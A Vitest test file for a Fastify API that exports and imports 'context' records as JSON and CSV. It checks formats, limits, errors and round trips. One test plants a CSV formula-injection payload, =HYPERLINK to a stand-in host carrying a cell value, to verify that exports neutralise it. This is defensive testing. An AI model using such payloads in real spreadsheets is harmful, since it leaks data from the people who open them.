import { randomUUID } from 'node:crypto';

import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';

import { buildTestApp, inject, multipartFile, token } from '../helpers.js';

const EXPORT_KEYS = [
  'id',
  'type',
  'content',
  'confidence',
  'tags',
  'source',
  'status',
  'created_at',
  'last_used',
  'superseded_by',
];
const CSV_HEADER = 'id,type,content,confidence,tags,source,status,created_at,last_used,superseded_by';

interface Unit {
  id: string;
  type: string;
  content: string;
  confidence: number;
  created_at: string;
  last_used: string | null;
  source: string;
  tags: string[];
  status: string;
  superseded_by: string | null;
}
type Exported = Omit<Unit, never>;
interface ExportDoc {
  export_date: string;
  total_contexts: number;
  contexts: Exported[];
}
interface ImportResult {
  imported: number;
  skipped: number;
  errors: string[];
  total_errors: number;
}

/** `app` is the main app; `target` receives round trips and replacements; `small` caps imports at 2 KiB. */
let app: FastifyInstance;
let target: FastifyInstance;
let small: FastifyInstance;
beforeAll(async () => {
  [app, target, small] = await Promise.all([
    buildTestApp(),
    buildTestApp(),
    buildTestApp({ CONTEXTPILOT_MAX_IMPORT_BYTES: '2048' }),
  ]);
});
afterAll(async () => {
  await Promise.all([app.close(), target.close(), small.close()]);
});

async function create(payload: Record<string, unknown>, on: FastifyInstance = app): Promise<Unit> {
  const res = await inject(on, { method: 'POST', url: '/contexts', payload });
  expect(res.statusCode, res.body).toBe(201);
  return res.json<Unit>();
}

async function get(id: string, on: FastifyInstance = app) {
  return inject(on, { method: 'GET', url: `/contexts/${id}` });
}

async function upload(filename: string, content: string | Uint8Array, query = '', on: FastifyInstance = app) {
  const form = multipartFile('file', filename, content);
  return inject(on, { method: 'POST', url: `/contexts/import${query}`, payload: form.body, headers: form.headers });
}

async function importOk(
  filename: string,
  content: string,
  query = '',
  on: FastifyInstance = app,
): Promise<ImportResult> {
  const res = await upload(filename, content, query, on);
  expect(res.statusCode, res.body).toBe(200);
  return res.json<ImportResult>();
}

async function exportJson(on: FastifyInstance = app): Promise<ExportDoc> {
  const res = await inject(on, { method: 'GET', url: '/contexts/export?format=json' });
  expect(res.statusCode).toBe(200);
  return res.json<ExportDoc>();
}

async function listAll(on: FastifyInstance): Promise<Unit[]> {
  const res = await inject(on, { method: 'GET', url: '/contexts?include_superseded=true&limit=100000' });
  expect(res.statusCode).toBe(200);
  return res.json<Unit[]>();
}

async function stats(on: FastifyInstance = app) {
  // Background indexing of an earlier import would otherwise change the counts between two reads.
  await on.parts.indexer.idle();
  return (await inject(on, { method: 'GET', url: '/stats' })).json<{
    total_contexts: number;
    active_contexts: number;
    contexts_with_embeddings: number;
  }>();
}

/** A fully specified item as export writes it. */
function item(overrides: Partial<Exported> = {}): Exported {
  return {
    id: randomUUID(),
    type: 'fact',
    content: `Imported fact ${token()}`,
    confidence: 0.75,
    tags: ['imported'],
    source: 'backup',
    status: 'active',
    created_at: '2024-01-02T03:04:05.678Z',
    last_used: null,
    superseded_by: null,
    ...overrides,
  };
}

function doc(items: unknown[]): string {
  return JSON.stringify({ export_date: '2024-05-06T07:08:09.000Z', total_contexts: items.length, contexts: items });
}

function toUnit(e: Exported): Unit {
  return {
    id: e.id,
    type: e.type,
    content: e.content,
    confidence: e.confidence,
    created_at: e.created_at,
    last_used: e.last_used,
    source: e.source,
    tags: e.tags,
    status: e.status,
    superseded_by: e.superseded_by,
  };
}

describe('GET /contexts/export', () => {
  it('exports JSON as an attachment with content-type exactly application/json', async () => {
    const res = await inject(app, { method: 'GET', url: '/contexts/export' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/json');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=contexts_\d{8}_\d{6}\.json$/);
    const body = res.json<ExportDoc>();
    expect(Object.keys(body)).toEqual(['export_date', 'total_contexts', 'contexts']);
    expect(body.export_date).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(body.total_contexts).toBe(body.contexts.length);
    expect(res.body).toContain('\n  "contexts"');
  });

  it('names the file after the current UTC time', async () => {
    const before = new Date();
    const res = await inject(app, { method: 'GET', url: '/contexts/export?format=json' });
    const after = new Date();
    const stamp = /filename=contexts_(\d{4})(\d{2})(\d{2})_(\d{2})(\d{2})(\d{2})\.json$/.exec(
      res.headers['content-disposition'] as string,
    );
    expect(stamp).not.toBeNull();
    const [, y, mo, d, h, mi, s] = stamp as unknown as string[];
    const at = Date.UTC(Number(y), Number(mo) - 1, Number(d), Number(h), Number(mi), Number(s));
    expect(at).toBeGreaterThanOrEqual(Math.floor(before.getTime() / 1000) * 1000);
    expect(at).toBeLessThanOrEqual(after.getTime());
  });

  it('includes superseded units and superseded_by, with every field in v1 order', async () => {
    const old = await create({
      type: 'decision',
      content: `Use MySQL ${token()}`,
      tags: ['db'],
      confidence: 0.6,
      source: 'meeting',
    });
    const current = await create({ type: 'decision', content: `Use PostgreSQL ${token()}`, tags: ['db'] });
    const put = await inject(app, {
      method: 'PUT',
      url: `/contexts/${old.id}`,
      payload: { status: 'superseded', superseded_by: current.id },
    });
    expect(put.statusCode).toBe(200);
    const body = await exportJson();
    const exportedOld = body.contexts.find((c) => c.id === old.id);
    const exportedNew = body.contexts.find((c) => c.id === current.id);
    expect(Object.keys(exportedOld ?? {})).toEqual(EXPORT_KEYS);
    expect(exportedOld).toEqual({
      id: old.id,
      type: 'decision',
      content: old.content,
      confidence: 0.6,
      tags: ['db'],
      source: 'meeting',
      status: 'superseded',
      created_at: old.created_at,
      last_used: null,
      superseded_by: current.id,
    });
    expect(exportedNew?.status).toBe('active');
    expect(exportedNew?.superseded_by).toBeNull();
    expect(body.contexts.findIndex((c) => c.id === old.id)).toBeLessThan(
      body.contexts.findIndex((c) => c.id === current.id),
    );
  });

  it('exports CSV with a header row, CRLF line endings and quoted cells where needed', async () => {
    const word = token();
    const unit = await create({
      type: 'fact',
      content: `Has, a comma and "quotes" ${word}\nand a newline`,
      tags: ['a', 'b c'],
      confidence: 0.5,
    });
    const res = await inject(app, { method: 'GET', url: '/contexts/export?format=csv' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename=contexts_\d{8}_\d{6}\.csv$/);
    expect(res.body.startsWith(`${CSV_HEADER}\r\n`)).toBe(true);
    expect(res.body.endsWith('\r\n')).toBe(true);
    expect(res.body).toContain(
      `${unit.id},fact,"Has, a comma and ""quotes"" ${word}\nand a newline",0.5,"a,b c",manual,active,${unit.created_at},,\r\n`,
    );
    const withoutQuotedNewlines = res.body.replace(/"(?:[^"]|"")*"/g, '""');
    expect(withoutQuotedNewlines.split('\r\n').every((line) => !line.includes('\n'))).toBe(true);
  });

  it('writes confidence Python-style in CSV (1.0, not 1)', async () => {
    const unit = await create({ type: 'goal', content: `Full confidence ${token()}` });
    const res = await inject(app, { method: 'GET', url: '/contexts/export?format=csv' });
    expect(res.body).toContain(`${unit.id},goal,${unit.content},1.0,,manual,active,${unit.created_at},,\r\n`);
  });

  it('writes a cell a spreadsheet would run as a formula quoted behind a single quote', async () => {
    const word = token();
    const unit = await create({
      type: 'fact',
      content: `=HYPERLINK("http://x.test/?"&A1,"${word}")`,
      tags: ['-x', 'y'],
      source: '@import',
    });
    const quoted = await create({ type: 'fact', content: `'=already quoted ${word}` });
    const res = await inject(app, { method: 'GET', url: '/contexts/export?format=csv' });
    expect(res.body).toContain(
      `${unit.id},fact,"'=HYPERLINK(""http://x.test/?""&A1,""${word}"")",1.0,"'-x,y","'@import",active,${unit.created_at},,\r\n`,
    );
    expect(res.body).toContain(`${quoted.id},fact,"''=already quoted ${word}",1.0,,manual,active,`);
  });

  it('rejects any other format with 400 "Unsupported format"', async () => {
    const res = await inject(app, { method: 'GET', url: '/contexts/export?format=xml' });
    expect(res.statusCode).toBe(400);
    const body = res.json<{ message: string; detail: string; error_code: string }>();
    expect(body.message).toBe("Unsupported format: xml. Use 'json' or 'csv'");
    expect(body.detail).toBe(body.message);
    expect(body.error_code).toBe('HTTP_ERROR');
  });
});

describe('POST /contexts/import', () => {
  it('imports a JSON export keeping ids, times, status and links', async () => {
    const newer = item({ type: 'preference', tags: ['x', 'y z'], last_used: '2024-03-04T05:06:07.890Z' });
    const older = item({ status: 'superseded', superseded_by: newer.id, confidence: 0.25 });
    const result = await importOk('backup.json', doc([older, newer]));
    expect(result).toEqual({ imported: 2, skipped: 0, errors: [], total_errors: 0 });
    for (const e of [older, newer]) {
      const res = await get(e.id);
      expect(res.statusCode).toBe(200);
      expect(res.json()).toEqual(toUnit(e));
    }
  });

  it('imports a CSV file keeping ids, times, status and links', async () => {
    const newer = item({
      content: `CSV newer, with comma ${token()}`,
      tags: ['a', 'b c'],
      last_used: '2024-03-04T05:06:07.890Z',
    });
    const older = item({
      content: `CSV "older" ${token()}\nsecond line`,
      status: 'superseded',
      superseded_by: newer.id,
      confidence: 1,
    });
    const quote = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
    const row = (e: Exported) =>
      [
        e.id,
        e.type,
        e.content,
        String(e.confidence),
        e.tags.join(','),
        e.source,
        e.status,
        e.created_at,
        e.last_used ?? '',
        e.superseded_by ?? '',
      ]
        .map(quote)
        .join(',');
    const csv = `${CSV_HEADER}\r\n${row(older)}\r\n${row(newer)}\r\n`;
    const result = await importOk('backup.csv', csv);
    expect(result).toEqual({ imported: 2, skipped: 0, errors: [], total_errors: 0 });
    expect((await get(older.id)).json()).toEqual(toUnit(older));
    expect((await get(newer.id)).json()).toEqual(toUnit(newer));
  });

  it('reads the original v1 export format (naive timestamps, ASCII escapes, no superseded_by, no source)', async () => {
    const id = randomUUID();
    const word = token();
    const v1 =
      '{"export_date": "2024-01-02T03:04:05.123456", "total_contexts": 1, "contexts": [{"id": "' +
      id +
      '", "type": "fact", "content": "Caf\\u00e9 \\u4e16\\u754c ' +
      word +
      '", "confidence": 1.0, "tags": ["t1"], "status": "active", "created_at": "2024-01-02T03:04:05.123456", "last_used": null}]}';
    const result = await importOk('contexts_20240102_030405.json', v1);
    expect(result.imported).toBe(1);
    expect((await get(id)).json()).toEqual({
      id,
      type: 'fact',
      content: `Café 世界 ${word}`,
      confidence: 1,
      created_at: '2024-01-02T03:04:05.123Z',
      last_used: null,
      source: 'manual',
      tags: ['t1'],
      status: 'active',
      superseded_by: null,
    });
  });

  it('sanitizes imported items like a create', async () => {
    const e = item({ content: `  Dirty\u0000 content ${token()}  `, tags: [' Tag ', 'tag', 'other'] });
    await importOk('dirty.json', doc([e]));
    const unit = (await get(e.id)).json<Unit>();
    expect(unit.content).toBe(e.content.replace('\u0000', '').trim());
    expect(unit.tags).toEqual(['Tag', 'other']);
  });

  it('gives a unit an id and defaults when the item has only type and content', async () => {
    const word = token();
    const result = await importOk('minimal.json', JSON.stringify([{ type: 'goal', content: `Minimal ${word}` }]));
    expect(result.imported).toBe(1);
    const [unit] = (await inject(app, { method: 'GET', url: `/contexts?search=${word}` })).json<Unit[]>();
    expect(unit).toMatchObject({
      type: 'goal',
      content: `Minimal ${word}`,
      confidence: 1,
      tags: [],
      source: 'manual',
      status: 'active',
    });
    expect(unit?.id).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('reports bad items (first 10 errors and the total) and keeps the good ones', async () => {
    const good1 = item();
    const good2 = item();
    const bad = [
      item({ type: 'opinion' }),
      item({ content: '   ' }),
      item({ confidence: 1.5 }),
      item({ tags: ['bad@tag'] }),
      item({ created_at: 'yesterday' }),
      item({ status: 'archived' }),
      { type: 'fact' },
      'not an object',
      item({ content: 'x'.repeat(10_001) }),
      item({ tags: 'a,b' as never }),
      item({ superseded_by: 'has spaces' }),
      item({ confidence: 'high' as never }),
    ];
    const result = await importOk('mixed.json', doc([good1, ...bad, good2]));
    expect(result.imported).toBe(2);
    expect(result.skipped).toBe(bad.length);
    expect(result.total_errors).toBe(bad.length);
    expect(result.errors).toHaveLength(10);
    for (const message of result.errors) {
      expect(message).toMatch(/^Context /);
    }
    expect(result.errors[0]).toContain((bad[0] as Exported).id);
    expect((await get(good1.id)).statusCode).toBe(200);
    expect((await get(good2.id)).statusCode).toBe(200);
    for (const b of bad) {
      if (typeof b === 'object' && 'id' in b) {
        expect((await get(b.id)).statusCode).toBe(404);
      }
    }
  });

  it('refuses an item that supersedes itself, as an update does, from JSON and CSV alike', async () => {
    const looped = item({ status: 'superseded' });
    looped.superseded_by = looped.id;
    const good = item();
    const json = await importOk('looped.json', doc([looped, good]));
    expect(json).toEqual({
      imported: 1,
      skipped: 1,
      errors: [`Context ${looped.id}: A context cannot supersede itself`],
      total_errors: 1,
    });
    const row = [
      looped.id,
      'fact',
      `Looped ${token()}`,
      '1.0',
      '',
      'csv',
      'superseded',
      looped.created_at,
      '',
      looped.id,
    ];
    const csv = await importOk('looped.csv', `${CSV_HEADER}\r\n${row.join(',')}\r\n`);
    expect(csv.errors).toEqual([`Context ${looped.id}: A context cannot supersede itself`]);
    expect((await get(looped.id)).statusCode).toBe(404);
    expect((await get(good.id)).statusCode).toBe(200);
  });

  it('lists every error when there are at most 10', async () => {
    const result = await importOk('few.json', doc([item(), item({ type: 'nope' }), item({ content: '' })]));
    expect(result).toMatchObject({ imported: 1, skipped: 2, total_errors: 2 });
    expect(result.errors).toHaveLength(2);
    expect(result.errors[1]).toContain('empty');
  });

  it('rejects invalid JSON with 400 and a message naming JSON, writing nothing', async () => {
    const before = await stats();
    const res = await upload('broken.json', '{"contexts": [');
    expect(res.statusCode).toBe(400);
    expect(res.json<{ message: string }>().message).toContain('JSON');
    expect(await stats()).toEqual(before);
  });

  it('rejects a JSON document of the wrong shape with 400', async () => {
    for (const content of ['42', '"text"', 'null', '{"contexts": 5}']) {
      const res = await upload('shape.json', content);
      expect(res.statusCode, content).toBe(400);
    }
  });

  it('rejects a .txt file with 400', async () => {
    const res = await upload('contexts.txt', doc([item()]));
    expect(res.statusCode).toBe(400);
    expect(res.json<{ message: string }>().message).toContain('JSON');
  });

  it('rejects a file that is not UTF-8 with 400', async () => {
    const res = await upload('latin1.json', new Uint8Array([0x7b, 0x22, 0xe9, 0x22, 0x7d]));
    expect(res.statusCode).toBe(400);
  });

  it('rejects an upload over CONTEXTPILOT_MAX_IMPORT_BYTES with 413 and writes nothing', async () => {
    const before = await stats(small);
    const items = Array.from({ length: 20 }, () => item());
    const content = doc(items);
    expect(content.length).toBeGreaterThan(2048);
    const res = await upload('big.json', content, '', small);
    expect(res.statusCode).toBe(413);
    expect(res.json<{ error_code: string }>().error_code).toBe('PAYLOAD_TOO_LARGE');
    const huge = await upload('huge.json', doc([item({ content: 'y'.repeat(9_000) })]).padEnd(100_000, ' '), '', small);
    expect(huge.statusCode).toBe(413);
    expect(await stats(small)).toEqual(before);
    expect(await listAll(small)).toEqual([]);
  });

  it('accepts an upload just under CONTEXTPILOT_MAX_IMPORT_BYTES', async () => {
    const e = item({ content: `Small enough ${token()}` });
    const content = doc([e]);
    expect(content.length).toBeLessThan(2048);
    expect((await upload('ok.json', content, '', small)).statusCode).toBe(200);
    expect((await get(e.id, small)).statusCode).toBe(200);
  });

  it('rejects a multipart body without a file field with 400', async () => {
    const form = multipartFile('upload', 'contexts.json', doc([item()]));
    const res = await inject(app, {
      method: 'POST',
      url: '/contexts/import',
      payload: form.body,
      headers: form.headers,
    });
    expect(res.statusCode).toBe(400);
  });

  it('rejects a body that is not multipart with a 4xx envelope', async () => {
    const json = await inject(app, { method: 'POST', url: '/contexts/import', payload: { contexts: [] } });
    expect(json.statusCode).toBeGreaterThanOrEqual(400);
    expect(json.statusCode).toBeLessThan(500);
    expect(json.json()).toHaveProperty('error_code');
    const text = await inject(app, {
      method: 'POST',
      url: '/contexts/import',
      payload: 'hello',
      headers: { 'content-type': 'text/plain' },
    });
    expect(text.statusCode).toBeGreaterThanOrEqual(400);
    expect(text.statusCode).toBeLessThan(500);
    const broken = await inject(app, {
      method: 'POST',
      url: '/contexts/import',
      payload: 'not really multipart',
      headers: { 'content-type': 'multipart/form-data; boundary=xyz' },
    });
    expect(broken.statusCode).toBeGreaterThanOrEqual(400);
    expect(broken.statusCode).toBeLessThan(500);
  });

  it('makes imported units searchable by full text at once and embeds them in the background', async () => {
    const word = token();
    const e = item({ content: `The on-call rotation is kept in ${word}` });
    await importOk('searchable.json', doc([e]));
    const res = await inject(app, {
      method: 'POST',
      url: '/generate-prompt',
      payload: { task: `Where is ${word}?`, max_context_units: 20 },
    });
    const ranked = res.json<{ relevant_context: { context_unit: Unit; score_breakdown: { lexical: number } }[] }>()
      .relevant_context;
    const hit = ranked.find((r) => r.context_unit.id === e.id);
    expect(hit?.score_breakdown.lexical).toBe(1);

    await app.parts.indexer.idle();
    const after = await stats();
    expect(after.contexts_with_embeddings).toBe(after.active_contexts);
  });

  it('hands vectors computed in the background to the vector index without waiting for a ranking', async () => {
    const fresh = await buildTestApp();
    try {
      const entries = [item(), item(), item({ status: 'superseded' })];
      await importOk('background.json', doc(entries), '', fresh);
      expect(fresh.parts.search.indexedUnits).toBe(0);
      await fresh.parts.indexer.idle();
      // Each indexing round syncs the index; no ranking has run on this app.
      await vi.waitFor(() => expect(fresh.parts.search.indexedUnits).toBe(entries.length));
    } finally {
      await fresh.close();
    }
  });

  it('overwrites a unit with the same id', async () => {
    const e = item();
    await importOk('first.json', doc([e]));
    const changed = { ...e, content: `Changed ${token()}`, confidence: 0.1 };
    await importOk('second.json', doc([changed]));
    expect((await get(e.id)).json()).toEqual(toUnit(changed));
  });

  it('replace_existing=true replaces every unit, superseded ones included', async () => {
    const first = [item(), item({ status: 'superseded' }), item()];
    await importOk('first.json', doc(first), '', target);
    const made = await create({ type: 'fact', content: `Made by hand ${token()}` }, target);
    const second = [item({ type: 'goal' }), item({ status: 'superseded', superseded_by: null })];
    const result = await importOk('second.json', doc(second), '?replace_existing=true', target);
    expect(result).toEqual({ imported: 2, skipped: 0, errors: [], total_errors: 0 });
    const units = await listAll(target);
    expect(units).toEqual(second.map(toUnit));
    expect((await get(made.id, target)).statusCode).toBe(404);
    const s = await stats(target);
    expect(s.total_contexts).toBe(2);
    expect(s.active_contexts).toBe(1);
  });

  it('replace_existing=false keeps existing units', async () => {
    const existing = await create({ type: 'fact', content: `Keep me ${token()}` });
    const e = item();
    await importOk('add.json', doc([e]), '?replace_existing=false');
    expect((await get(existing.id)).statusCode).toBe(200);
    expect((await get(e.id)).statusCode).toBe(200);
  });

  it('replace_existing=true with an unreadable file changes nothing', async () => {
    const existing = await create({ type: 'fact', content: `Survivor ${token()}` }, target);
    const before = await listAll(target);
    const res = await upload('broken.json', '{oops', '?replace_existing=true', target);
    expect(res.statusCode).toBe(400);
    expect(await listAll(target)).toEqual(before);
    expect((await get(existing.id, target)).statusCode).toBe(200);
  });

  it('round-trips: a JSON export imported into another app gives identical units', async () => {
    const a = await create({
      type: 'preference',
      content: `Round trip “quotes” 🌍 ${token()}`,
      tags: ['x', 'y z'],
      confidence: 0.33,
    });
    const b = await create({ type: 'fact', content: `Round trip\nmultiline\ttabbed ${token()}` });
    await inject(app, {
      method: 'PUT',
      url: `/contexts/${a.id}`,
      payload: { status: 'superseded', superseded_by: b.id },
    });
    await inject(app, { method: 'POST', url: '/generate-prompt', payload: { task: b.content } });
    const file = await inject(app, { method: 'GET', url: '/contexts/export?format=json' });
    const result = await importOk('roundtrip.json', file.body, '?replace_existing=true', target);
    const exported = file.json<ExportDoc>();
    expect(result.imported).toBe(exported.total_contexts);
    expect(result.skipped).toBe(0);
    expect((await exportJson(target)).contexts).toEqual(exported.contexts);
    expect(await listAll(target)).toEqual(await listAll(app));
    expect((await get(a.id, target)).json()).toMatchObject({ status: 'superseded', superseded_by: b.id });
  });

  it('round-trips: a CSV export imported into another app gives identical units', async () => {
    await create({
      type: 'decision',
      content: `CSV trip, "quoted" ${token()}\r\nnext line`,
      tags: ['c-s-v', 'two words'],
      confidence: 0.1,
    });
    await create({ type: 'goal', content: `=SUM(A1) formula-looking ${token()}`, tags: [] });
    await create({ type: 'fact', content: `'+quoted formula ${token()}`, tags: ['-minus'], source: '-source' });
    const file = await inject(app, { method: 'GET', url: '/contexts/export?format=csv' });
    const result = await importOk('roundtrip.csv', file.body, '?replace_existing=true', target);
    expect(result.skipped).toBe(0);
    expect(await listAll(target)).toEqual(await listAll(app));
  });
});
